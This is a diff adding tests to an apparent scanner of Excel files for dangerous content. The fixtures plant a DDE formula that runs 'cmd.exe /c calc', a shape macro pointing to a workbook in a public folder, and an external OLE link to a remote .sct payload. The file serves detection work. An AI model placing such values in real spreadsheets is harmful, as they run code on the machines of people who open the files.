@@ -422,3 +422,20 @@ def test_linked_ole_object_outside_the_package(copy):
         r, f"{{{PREL}}}Relationship", Id="rIdO", Type=f"{REL}/oleObject",
         Target="http://example.com/payload.sct", TargetMode="External"))})
     one(findings(path), "xl/worksheets/sheet1.xml", "OLE object relationship", "http://example.com/payload.sct")
+
+
+def test_shape_with_an_assigned_macro(copy):
+    path = copy()
+    drawing = "xl/drawings/drawing1.xml"
+    xdr = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
+    rewrite(path, {drawing: xml_edit(path, drawing, lambda r: r.iter(f"{{{xdr}}}graphicFrame").__next__().set(
+        "macro", "'C:\\Users\\Public\\x.xlsm'!Run"))})
+    one(findings(path), drawing, "runs macro", "x.xlsm'!Run", "when clicked")
+
+
+def test_dde_in_a_defined_name(copy):
+    path = copy()
+    rewrite(path, {"xl/workbook.xml": xml_edit(path, "xl/workbook.xml", lambda r: etree.SubElement(
+        r.find(f"{{{MAIN}}}definedNames"), f"{{{MAIN}}}definedName", name="Rate").__setattr__(
+        "text", "msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A1"))})
+    one(findings(path), "xl/workbook.xml (name Rate)", "DDE formula")
